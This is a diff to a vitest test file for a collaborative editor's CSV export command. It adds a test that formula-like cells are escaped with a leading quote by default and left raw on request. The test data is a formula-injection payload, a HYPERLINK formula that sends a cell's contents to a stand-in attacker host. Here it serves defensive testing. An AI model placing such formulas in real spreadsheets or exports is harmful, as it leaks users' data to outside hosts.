@@ -3,6 +3,7 @@ import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { promisify } from 'node:util'
+import { parse } from 'csv-parse/sync'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import * as Y from 'yjs'
 import { takeSnapshot } from '../../editor/export/snapshot'
@@ -118,5 +119,28 @@ describe('exports from the stored state', () => {
     }
     expect(strip(again)).toEqual(strip(exported))
     await expect(run('node_modules/.bin/tsx', ['collab-server/cli/import.ts', join(outDir, 'missing.json'), '--data-dir', server.dataDir])).rejects.toMatchObject({ code: 1 })
+  })
+
+  it("npm run export writes CSV cells a spreadsheet would run as formulas with a leading ' (--csv raw: as they are)", async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    const record = client.doc.getMap('annotations').get('claim-master-class') as Y.Map<unknown>
+    record.set('note', formula)
+    await waitFor(async () => {
+      const doc = new Y.Doc()
+      Y.applyUpdate(doc, new Uint8Array(await (await fetch(`${server.httpUrl}/api/docs/${DOC}/state`)).arrayBuffer()))
+      return takeSnapshot(DOC, doc).annotations[0]?.note === formula
+    }, 'the note to be stored')
+    const noteOf = async (extra: string[]) => {
+      const target = join(outDir, `note${extra.join('')}.csv`)
+      await run('node_modules/.bin/tsx', ['collab-server/cli/export.ts', '--doc', DOC, '--format', 'csv', '--out', target, '--data-dir', server.dataDir, ...extra])
+      const [header, row] = parse(readFileSync(target, 'utf8'), { bom: true }) as string[][]
+      return row[header.indexOf('note')]
+    }
+    expect(await noteOf([])).toBe(`'${formula}`)
+    expect(await noteOf(['--csv', 'raw'])).toBe(formula)
+    await expect(run('node_modules/.bin/tsx', ['collab-server/cli/export.ts', '--doc', DOC, '--format', 'csv', '--csv', 'off', '--out', outDir, '--data-dir', server.dataDir])).rejects.toMatchObject({
+      code: 2,
+      stderr: expect.stringContaining('export: csv must be escape or raw'),
+    })
   })
 })
